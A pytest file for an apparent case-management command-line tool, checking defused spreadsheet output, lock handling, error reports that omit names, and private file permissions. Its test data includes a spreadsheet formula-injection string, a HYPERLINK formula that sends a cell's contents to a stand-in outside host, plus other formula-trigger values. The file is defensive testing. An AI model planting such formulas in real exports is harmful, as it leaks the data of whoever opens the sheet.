"""Failures of the system under the command line: one clear sentence, nothing personal, no
traceback; the window's lock respected; output safe for spreadsheets; files private."""

from __future__ import annotations

import logging
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from guardian_desk import cli
from guardian_desk.log import redact
from guardian_desk.services import exchange
from guardian_desk.storage.database import open_database
from tests.reliability.conftest import digest


@pytest.fixture
def demo_copy(demo_template: Path, tmp_path: Path) -> Path:
    path = tmp_path / "cases.sqlite"
    shutil.copyfile(demo_template, path)
    return path


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        (
            '=HYPERLINK("http://x.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://x.example/?"&A1,"Click")',
        ),
        ("+1-202-555-0100", "'+1-202-555-0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "' indented"),
        ("\r=1+1", "' =1+1"),
        ("two\nlines\tand a tab", "two lines and a tab"),
        ("Amina Yusuf", "Amina Yusuf"),
        ("ذبیح‌الله قادری", "ذبیح‌الله قادری"),
        (-3, "-3"),
        (16, "16"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_defused(cell: object, shown: str) -> None:
    assert cli.spreadsheet_safe(cell) == shown


def test_a_formula_in_a_name_reaches_the_listing_defused(
    demo_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with sqlite3.connect(demo_copy) as conn:
        reference = conn.execute("SELECT reference FROM cases ORDER BY reference").fetchone()[0]
        conn.execute("UPDATE cases SET reference = ? WHERE reference = ?", ("=1+1", reference))
    assert cli.main(["cases", "--db", str(demo_copy), "--limit", "60"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert any(line.startswith("'=1+1\t") for line in lines)
    # reference, names, age, next hearing, next deadline: no cell split by what a name holds
    assert all(len(line.split("\t")) == 5 for line in lines)


def _hold_window_lock(db: Path, pid: int, host: str) -> None:
    # What Qt's QLockFile writes: the process id, the program, the computer, one a line.
    Path(f"{db}.lock").write_text(f"{pid}\nGuardian Desk\n{host}\n", encoding="utf-8")


def test_writes_wait_for_the_window_and_reads_go_ahead(
    demo_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    window = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        _hold_window_lock(demo_copy, window.pid, socket.gethostname())
        before = digest(demo_copy)
        assert cli.main(["demo-data", "--db", str(demo_copy), "--cases", "2"]) == 1
        said = capsys.readouterr().err
        assert f"Guardian Desk has this database open (process {window.pid}" in said
        assert "Close that window first" in said
        assert digest(demo_copy) == before
        assert cli.main(["cases", "--db", str(demo_copy), "--limit", "1"]) == 0
        assert cli.main(["deadlines", "--db", str(demo_copy), "--recompute"]) == 1
    finally:
        window.kill()
        window.wait()
    # The same lock once its process has ended is a leftover of a crash: it holds nothing.
    assert cli.main(["demo-data", "--db", str(demo_copy), "--cases", "2", "--seed", "3"]) == 0


def test_an_unexpected_error_writes_a_report_without_personal_data(
    demo_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    db = open_database(str(demo_copy))
    case = exchange.export_document(db)["cases"][0]  # names are registered as they are read
    db.close()
    relative = next(
        m["full_name"] for c in [case] for m in c.get("family_members", []) if m.get("full_name")
    )

    def broken(*_args: object, **_kwargs: object) -> int:
        raise RuntimeError(f"broken while listing {relative} of {case['reference']}")

    from guardian_desk.services import cases

    monkeypatch.setattr(cases, "count", broken)
    assert cli.main(["cases", "--db", str(demo_copy)]) == 70
    said = capsys.readouterr().err
    assert "an unexpected error stopped the command" in said
    assert "Traceback" not in said
    report = Path(said.rsplit(" is in ", 1)[1].strip().rstrip("."))
    text = report.read_text(encoding="utf-8")
    assert "RuntimeError" in text
    assert relative not in text
    assert case["reference"] not in text
    assert stat.S_IMODE(report.stat().st_mode) == 0o600


def test_every_person_a_case_names_is_redacted_from_logs(demo_copy: Path) -> None:
    db = open_database(str(demo_copy))
    cases = exchange.export_document(db)["cases"]
    db.close()
    people = [
        m["full_name"] for c in cases for m in c.get("family_members", []) if m.get("full_name")
    ]
    assert people
    line = f"opened the file of {people[0]}"
    assert people[0] not in redact(line)
    logging.getLogger("guardian_desk.test").warning(line)  # no exception, nothing leaks


def test_the_command_line_creates_private_files(tmp_path: Path) -> None:
    db = tmp_path / "data" / "cases.sqlite"
    made = subprocess.run(
        [sys.executable, "-m", "guardian_desk", "--db", str(db), "demo-data", "--cases", "2"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert made.returncode == 0, made.stderr
    out = tmp_path / "export.json"
    exported = subprocess.run(
        [
            sys.executable,
            "-m",
            "guardian_desk",
            "--db",
            str(db),
            "export",
            "--unencrypted",
            "-o",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert exported.returncode == 0, exported.stderr
    for path in (db, out):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(db.parent.stat().st_mode) == 0o700


def test_no_core_dump_of_a_process_that_may_hold_a_key() -> None:
    import subprocess
    import sys

    code = (
        "import resource\n"
        "soft, hard = resource.getrlimit(resource.RLIMIT_CORE)\n"
        "resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))\n"
        "assert resource.getrlimit(resource.RLIMIT_CORE)[0] != 0 or hard == 0\n"
        "from guardian_desk.cli import private_files\n"
        "private_files()\n"
        "print(resource.getrlimit(resource.RLIMIT_CORE))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "(0, 0)"
